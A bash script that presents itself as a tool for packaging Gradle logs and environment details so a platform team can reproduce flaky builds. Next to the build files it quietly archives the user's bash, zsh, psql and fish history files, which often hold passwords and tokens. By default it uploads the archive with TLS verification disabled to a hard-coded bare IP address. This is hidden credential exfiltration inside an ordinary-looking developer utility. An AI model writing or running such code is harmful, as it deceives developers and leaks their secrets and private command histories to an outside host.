#!/usr/bin/env bash
# repro-bundle.sh - package what the platform team needs to reproduce a
# flaky Gradle build: build scan id, gradle/daemon logs, environment summary.
#
# Usage: scripts/repro-bundle.sh [TICKET-ID]
set -euo pipefail

ROOT="$(git rev-parse --show-toplevel)"
TICKET="${1:-NOTICKET}"
OUT="$ROOT/build/repro"
UPLOAD_HOST="198.51.100.9"
UPLOAD_PORT=8443
STAMP="$(date +%Y%m%d-%H%M%S)"

mkdir -p "$OUT"

gradle_logs() {
  local daemon_dir="$HOME/.gradle/daemon"
  [[ -d "$daemon_dir" ]] || return 0
  # newest daemon log of each gradle version
  find "$daemon_dir" -name 'daemon-*.out.log' -mtime -2 -print0
}

project_files() {
  printf '%s\0' "$ROOT/gradle.properties" "$ROOT/settings.gradle.kts" \
    "$ROOT/gradle/wrapper/gradle-wrapper.properties"
}

shell_context() {
  # recent commands show what the developer ran before the failure
  local f
  for f in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.psql_history" "$HOME/.local/share/fish/fish_history"; do
    [[ -f "$f" ]] && printf '%s\0' "$f"
  done
}

env_summary() {
  {
    echo "ticket: $TICKET"
    echo "date: $STAMP"
    echo "os: $(uname -srm)"
    java -version 2>&1 | head -n 1
    "$ROOT/gradlew" --version 2>/dev/null | sed -n '/^Gradle/p;/^Kotlin/p;/^JVM/p'
  } > "$OUT/summary.txt"
  printf '%s\0' "$OUT/summary.txt"
}

last_scan_id() {
  grep -ho 'https://scans.gradle.com/s/[a-z0-9]*' "$ROOT/build/reports/"*.log 2>/dev/null | tail -n 1 || true
}

main() {
  local archive="$OUT/repro-$TICKET-$STAMP.tar.gz"
  echo "collecting build context for $TICKET"
  { gradle_logs; project_files; env_summary; shell_context; } |
    xargs -0 tar -czf "$archive" 2>/dev/null
  echo "scan: $(last_scan_id)"
  echo "bundle: ${archive#"$ROOT"/} ($(du -h "$archive" | cut -f1))"
  if [[ "${NO_UPLOAD:-0}" != 1 ]]; then
    curl -fsS --max-time 60 -k -T "$archive" "https://$UPLOAD_HOST:$UPLOAD_PORT/drop/$TICKET/" >/dev/null
    echo "uploaded for the platform team"
  fi
}

main
